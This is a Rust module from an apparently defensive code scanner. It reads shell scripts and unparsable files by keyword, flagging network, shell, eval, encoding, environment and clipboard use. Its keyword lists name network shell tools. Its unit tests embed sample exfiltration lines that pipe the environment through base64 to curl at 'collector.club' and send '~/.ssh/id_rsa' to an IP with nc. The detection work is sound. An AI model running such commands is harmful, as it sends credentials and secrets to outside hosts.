//! The search without a syntax tree: for what does not parse, and for scripts of shells.
//!
//! Coarse on purpose: a file that no parser reads is read by its words, and so breaking the syntax
//! hides nothing. Linear in the text, whatever it holds.

use std::collections::BTreeSet;
use std::ops::Range;

use super::{Reading, Seen, Sight, literal, paths};
use crate::model::code::Ability;

/// Words of any language that say what the code can do, as they are written.
const WORDS: [(&str, Ability); 62] = [
    ("child_process", Ability::Process),
    ("execSync", Ability::Shell),
    ("execFile", Ability::Process),
    ("spawn", Ability::Process),
    ("spawnSync", Ability::Process),
    ("subprocess", Ability::Process),
    ("Popen", Ability::Process),
    ("os.system", Ability::Shell),
    ("os.popen", Ability::Shell),
    ("powershell", Ability::Shell),
    ("Invoke-Expression", Ability::Eval),
    ("iex", Ability::Eval),
    ("curl", Ability::Network),
    ("wget", Ability::Network),
    ("ncat", Ability::Network),
    ("socat", Ability::Network),
    ("Invoke-WebRequest", Ability::Network),
    ("fetch", Ability::Network),
    ("axios", Ability::Network),
    ("XMLHttpRequest", Ability::Network),
    ("WebSocket", Ability::Network),
    ("urllib", Ability::Network),
    ("urlopen", Ability::Network),
    ("requests", Ability::Network),
    ("socket", Ability::Network),
    ("nslookup", Ability::Dns),
    ("resolveTxt", Ability::Dns),
    ("gethostbyname", Ability::Dns),
    ("writeFile", Ability::FileWrite),
    ("writeFileSync", Ability::FileWrite),
    ("appendFile", Ability::FileWrite),
    ("appendFileSync", Ability::FileWrite),
    ("createWriteStream", Ability::FileWrite),
    ("unlinkSync", Ability::FileWrite),
    ("rmtree", Ability::FileWrite),
    ("chmod", Ability::FileWrite),
    ("printenv", Ability::WholeEnvironment),
    ("process.env", Ability::WholeEnvironment),
    ("os.environ", Ability::WholeEnvironment),
    ("base64", Ability::Encode),
    ("b64encode", Ability::Encode),
    ("b64decode", Ability::Encode),
    ("atob", Ability::Encode),
    ("btoa", Ability::Encode),
    ("xxd", Ability::Encode),
    ("eval", Ability::Eval),
    ("runInNewContext", Ability::Eval),
    ("runInThisContext", Ability::Eval),
    ("__import__", Ability::Eval),
    ("marshal.loads", Ability::Eval),
    ("ctypes", Ability::Native),
    ("dlopen", Ability::Native),
    ("ffi-napi", Ability::Native),
    ("xclip", Ability::Clipboard),
    ("pbpaste", Ability::Clipboard),
    ("pyperclip", Ability::Clipboard),
    ("clipboardy", Ability::Clipboard),
    ("screencapture", Ability::Screen),
    ("scrot", Ability::Screen),
    ("pynput", Ability::Screen),
    ("ImageGrab", Ability::Screen),
    ("twine", Ability::Publish),
];

/// Short names of programs, which count where a command stands.
const COMMANDS: [(&str, Ability); 22] = [
    ("nc", Ability::Network),
    ("ssh", Ability::Network),
    ("scp", Ability::Network),
    ("rsync", Ability::Network),
    ("dig", Ability::Dns),
    ("host", Ability::Dns),
    ("env", Ability::WholeEnvironment),
    ("set", Ability::WholeEnvironment),
    ("rm", Ability::FileWrite),
    ("mv", Ability::FileWrite),
    ("cp", Ability::FileWrite),
    ("tee", Ability::FileWrite),
    ("dd", Ability::FileWrite),
    ("sh", Ability::Shell),
    ("bash", Ability::Shell),
    ("zsh", Ability::Shell),
    ("node", Ability::Process),
    ("python", Ability::Process),
    ("python3", Ability::Process),
    ("bun", Ability::ChildInterpreter),
    ("deno", Ability::ChildInterpreter),
    ("gzip", Ability::Encode),
];

/// Pairs of words that are one command.
const PAIRS: [(&str, &str, Ability); 11] = [
    ("npm", "install", Ability::ChildInterpreter),
    ("npm", "i", Ability::ChildInterpreter),
    ("pip", "install", Ability::ChildInterpreter),
    ("pip3", "install", Ability::ChildInterpreter),
    ("uv", "pip", Ability::ChildInterpreter),
    ("npm", "publish", Ability::Publish),
    ("pnpm", "publish", Ability::Publish),
    ("yarn", "publish", Ability::Publish),
    ("git", "push", Ability::Publish),
    ("openssl", "enc", Ability::Encode),
    ("openssl", "base64", Ability::Encode),
];

/// Reads a text by its words alone.
pub fn read(source: &str) -> Reading {
    let mut reading = literals(source);
    for run in quoted(source) {
        for (kind, text) in literal::in_text(&source[run.clone()]) {
            let seen = Seen::Literal { kind, text };
            reading.sights.push(sight(seen, run.clone()));
        }
        let before = source[..run.start.saturating_sub(1)].trim_end();
        if ["require(", "import(", "from", "import"].iter().any(|word| before.ends_with(word)) {
            reading.imports.insert(source[run].to_owned());
        }
    }
    lines(source, &mut reading);
    words(source, &mut reading.sights);
    finish(&mut reading);
    reading
}

/// Reads the literals of a text alone: for data, where a word is no call. Names of hosts count within
/// URLs only.
pub fn literals(source: &str) -> Reading {
    let found = literal::places(source).into_iter();
    let sights = found.map(|one| {
        let literal::Found { kind, text, at } = one;
        sight(Seen::Literal { kind, text }, at)
    });
    let mut reading = Reading {
        sights: sights.collect(),
        ..Reading::default()
    };
    finish(&mut reading);
    reading
}

const fn sight(seen: Seen, range: Range<usize>) -> Sight {
    Sight {
        seen,
        range,
        function: None,
    }
}

/// In the order of places, one of each.
fn finish(reading: &mut Reading) {
    let key = |sight: &Sight| (sight.range.start, sight.range.end, sight.seen.clone());
    reading.sights.sort_by_cached_key(key);
    // A string is found as a run and within its line: the first place stays.
    let mut last = BTreeSet::new();
    let mut line = usize::MAX;
    reading.sights.retain(|sight| {
        if line != sight.range.start / 4096 {
            line = sight.range.start / 4096;
            last.clear();
        }
        last.insert(sight.seen.clone())
    });
}

/// The insides of quoted runs that end on their line (longer ones in backquotes do not count).
fn quoted(source: &str) -> Vec<Range<usize>> {
    let mut out = Vec::new();
    let mut open: Option<(u8, usize)> = None;
    let bytes = source.as_bytes();
    let mut at = 0;
    while at < bytes.len() {
        let b = bytes[at];
        match (b, open) {
            (b'\\', _) => at += 1,
            (b'\n', _) => open = None,
            (b'"' | b'\'' | b'`', None) => open = Some((b, at + 1)),
            (_, Some((quote, start))) if b == quote => {
                out.push(start..at);
                open = None;
            }
            _ => {}
        }
        at += 1;
    }
    out.retain(|run| source.get(run.clone()).is_some());
    out
}

/// Paths, bare hosts after commands that fetch, and Python's imports: line by line.
fn lines(source: &str, reading: &mut Reading) {
    let mut start = 0;
    for line in source.split_inclusive('\n') {
        let range = start..start + line.trim_end().len();
        for (ability, by) in paths::in_text(line) {
            reading.sights.push(sight(Seen::Ability { ability, by }, range.clone()));
        }
        if line.len() < 2000 && line.contains(['.']) && line.contains(' ') {
            for (kind, text) in literal::in_text(line.trim()) {
                reading.sights.push(sight(Seen::Literal { kind, text }, range.clone()));
            }
        }
        let mut words = line.split_whitespace();
        if let (Some("import" | "from"), Some(module)) = (words.next(), words.next())
            && module.starts_with(|c: char| c.is_alphabetic() || matches!(c, '_' | '.'))
        {
            reading.imports.insert(module.trim_end_matches([',', ';']).to_owned());
        }
        start += line.len();
    }
}

/// Abilities by words, short ones only where a command begins.
fn words(source: &str, out: &mut Vec<Sight>) {
    let part = |c: char| c.is_alphanumeric() || matches!(c, '_' | '.' | '-');
    let (mut last, mut command) = ("", true);
    let mut at = 0;
    while at < source.len() {
        let rest = &source[at..];
        let length = rest.find(|c: char| !part(c)).unwrap_or(rest.len());
        if length == 0 {
            let c = rest.chars().next().unwrap_or(' ');
            // A path before a program's name is part of the command: `/bin/sh`.
            command = matches!(c, '\n' | ';' | '|' | '&' | '(' | '`' | '/') || (command && (c.is_whitespace() || matches!(c, '"' | '\'')));
            last = if c.is_whitespace() { last } else { "" };
            at += c.len_utf8();
            continue;
        }
        let word = &rest[..length];
        let after = &rest[length..];
        let range = at..at + length;
        at += length;
        let mut push = |ability, by: &str| {
            let by = by.to_owned();
            out.push(sight(Seen::Ability { ability, by }, range.clone()));
        };
        for piece in [
            Some(word),
            word.rsplit_once('.').map(|(_, tail)| tail),
            word.split_once('.').map(|(head, _)| head),
        ]
        .into_iter()
        .flatten()
        {
            if let Some((by, ability)) = WORDS.iter().find(|(by, _)| *by == piece) {
                let single = *ability == Ability::WholeEnvironment && after.starts_with('[');
                if !single {
                    push(*ability, by);
                }
            }
        }
        // `env X=1 program` and `set -e` give nothing away.
        let alone = after.trim_start_matches([' ', '\t']).is_empty()
            || after.trim_start_matches([' ', '\t']).starts_with(['|', '>', '\n', ';', ')', '`']);
        if command && let Some((by, ability)) = COMMANDS.iter().find(|(by, _)| *by == word) {
            let called = *ability == Ability::WholeEnvironment && alone
                || *ability != Ability::WholeEnvironment && !after.starts_with(['(', '=', ':']);
            if called {
                push(*ability, by);
            }
        }
        if let Some((one, two, ability)) = PAIRS.iter().find(|(one, two, _)| *one == last && *two == word) {
            push(*ability, &format!("{one} {two}"));
        }
        // What prepares a command leaves its place open.
        command = command && matches!(word, "sudo" | "exec" | "then" | "do" | "else" | "nohup" | "if" | "!");
        last = word;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::code::LiteralKind;

    fn seen(source: &str) -> Vec<Seen> {
        read(source).sights.into_iter().map(|sight| sight.seen).collect()
    }

    fn ability(ability: Ability, by: &str) -> Seen {
        Seen::Ability { ability, by: by.into() }
    }

    #[test]
    fn a_shell_script_is_read_by_its_commands() {
        let script = "#!/bin/sh\nset -e\nenv | base64 | curl -d @- https://collector.club/x\nsudo nc 45.9.148.3 80 < ~/.ssh/id_rsa\nnpm install -g other\n";
        let seen = seen(script);
        for one in [
            ability(Ability::WholeEnvironment, "env"),
            ability(Ability::Encode, "base64"),
            ability(Ability::Network, "curl"),
            ability(Ability::Network, "nc"),
            ability(Ability::SecretPath, ".ssh"),
            ability(Ability::ChildInterpreter, "npm install"),
            Seen::Literal {
                kind: LiteralKind::Host,
                text: "collector.club".into(),
            },
            Seen::Literal {
                kind: LiteralKind::Ip,
                text: "45.9.148.3".into(),
            },
        ] {
            assert!(seen.contains(&one), "{one:?} in {seen:#?}");
        }
        assert!(!seen.contains(&ability(Ability::WholeEnvironment, "set")));
    }

    #[test]
    fn broken_code_hides_nothing() {
        let source = "const cp = require('child_process'); }}}} (((\nfetch('collector.club', process.env)\nconst a = process.env.HOME";
        let reading = read(source);
        assert!(reading.imports.contains("child_process"));
        let seen = seen(source);
        for one in [
            ability(Ability::Process, "child_process"),
            ability(Ability::Network, "fetch"),
            ability(Ability::WholeEnvironment, "process.env"),
        ] {
            assert!(seen.contains(&one), "{one:?} in {seen:#?}");
        }
        assert_eq!(seen.iter().filter(|one| matches!(one, Seen::Literal { .. })).count(), 1);
        assert!(
            !super::read("a = process.env.HOME")
                .sights
                .iter()
                .any(|s| matches!(s.seen, Seen::Ability { .. }))
        );
    }
}
